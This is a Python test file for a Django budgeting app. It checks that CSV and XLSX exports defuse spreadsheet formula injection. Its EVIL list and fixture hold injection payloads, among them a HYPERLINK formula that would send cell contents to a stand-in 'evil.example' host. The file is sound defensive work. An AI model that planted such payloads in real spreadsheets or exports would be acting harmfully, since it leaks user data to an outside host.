"""Issue 12 point 2: a text starting like a formula (=, +, -, @, tab, CR) never runs as one,
in any export, CSV or XLSX — neutralised in the one exporter every export goes through."""
import ast
import datetime
import pathlib
from decimal import Decimal

import pytest
from django.urls import reverse

from contribbudget import exports
from contribbudget.models import Preference
from tests import factories
from tests.exports_support import csv_rows, download, xlsx_rows, xlsx_sheet_xml

EVIL = ['=HYPERLINK("https://evil.example/?d="&A1,"clic")', "+33 6 12", "-2+3", "@SUM(A1:A9)",
        "\tcmd", "\r=1+1"]
ROOT = pathlib.Path(__file__).resolve().parents[2]


def _unsafe(cells) -> list:
    return [c for c in cells if isinstance(c, str) and c.startswith(exports.FORMULA_START)]


def test_the_exporter_prefixes_formula_like_text_and_keeps_numbers_as_numbers():
    columns = [exports.Column("Texte"), exports.Column("Montant", "money")]
    rows = [[text, Decimal("-12.50")] for text in EVIL]
    csv = csv_rows(exports.to_csv(columns, rows))
    assert [r[0] for r in csv[1:]] == ["'" + t for t in EVIL]
    assert all(r[1] == "-12,50" for r in csv[1:])  # a negative amount is not text
    xlsx = exports.to_xlsx(columns, rows)
    assert "<f>" not in xlsx_sheet_xml(xlsx)  # no formula reaches the sheet
    values = xlsx_rows(xlsx)
    assert [r[0] for r in values[1:]] == ["'" + t.replace("\r", "\r") for t in EVIL]
    assert all(r[1] == -12.5 for r in values[1:])


def test_the_xlsx_drops_control_characters_instead_of_failing():
    data = exports.to_xlsx([exports.Column("Texte")], [["bip\x07 \x0bvertical"]])
    assert xlsx_rows(data)[1] == ["bip vertical"]


@pytest.fixture
def evil_world(world):
    """Every text an export writes carries a formula: description, addresses, names."""
    w = world
    place = factories.place(name="=Lieu()", address='=HYPERLINK("https://evil.example")')
    w.contributor.preference = Preference.MONEY_PLACE
    w.contributor.home_place = place
    w.contributor.address = "@adresse"
    w.contributor.save()
    w.envelope.name = "+Enveloppe"
    w.envelope.save()
    w.project.name = "-Projet"
    w.project.save()
    factories.contribution(w.contributor, w.envelope, status="validated", hours=Decimal("2"),
                           date=datetime.date(2026, 2, 3), description=EVIL[0])
    from tests.retributions._documents_helpers import approved_run

    approved_run(w.envelope, w.coordinator.user, [
        {"member": w.contributor, "hours": "2.00", "money": "80.00", "payee": "place",
         "payee_place": place, "paid_on": datetime.date(2026, 4, 1),
         "payment_reference": "=VIR"},
    ])
    return w


def _every_export(w):
    """(member, url, params) for every export of the app, CSV and XLSX."""
    desk = [(w.treasurer, reverse("retributions:desk_export", args=[t]), {"annee": "2026"})
            for t in ("contributions", "envelopes", "lines", "payments")]
    pages = [(w.contributor, reverse("contributions:mine"), {}),
             (w.coordinator, reverse("projects:overview"), {}),
             (w.treasurer, reverse("retributions:payments"), {"status": "all"})]
    for member, url, params in desk:
        for fmt in exports.FORMATS:
            yield member, url, {**params, "format": fmt}, fmt
    for member, url, params in pages:
        for fmt in exports.FORMATS:
            yield member, url, {**params, "export": fmt}, fmt


def test_no_export_writes_a_formula(evil_world, client_for):
    checked = 0
    for member, url, params, fmt in _every_export(evil_world):
        data = download(client_for(member), url, params)
        if fmt == "csv":
            rows = csv_rows(data)
        else:
            assert "<f>" not in xlsx_sheet_xml(data), url
            rows = xlsx_rows(data)
        assert len(rows) > 1, (url, params)
        cells = [c for row in rows[1:] for c in row]
        assert not _unsafe(cells), (url, params, _unsafe(cells))
        assert any(isinstance(c, str) and c.startswith("'") for c in cells), (url, params)
        checked += 1
    assert checked == 14


def test_every_export_goes_through_the_one_exporter():
    """No module but contribbudget/exports.py writes CSV or XLSX itself."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in ("tests", ".venv", "bench") or "migrations" in rel.parts:
            continue
        if str(rel) == "contribbudget/exports.py":
            continue
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and getattr(node.value, "id", "") == "csv":
                offenders.append(f"{rel}: csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module == "openpyxl" \
                    and any(a.name == "Workbook" for a in node.names):
                offenders.append(f"{rel}: openpyxl.Workbook")
    assert not offenders
